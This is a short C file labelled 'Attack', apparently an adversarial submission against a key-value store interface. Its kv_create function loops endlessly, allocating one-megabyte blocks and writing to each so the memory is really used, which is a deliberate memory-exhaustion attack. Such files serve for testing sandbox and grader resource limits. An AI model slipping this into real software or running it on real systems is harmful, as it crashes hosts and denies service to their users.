/* Attack: takes memory without end, and uses it. */
#include <stdlib.h>
#include <string.h>
#include "kv.h"

kv *kv_create(void) {
    for (;;) {
        char *block = malloc(1 << 20);
        if (block) {
            memset(block, 1, 1 << 20);
        }
    }
    return NULL;
}
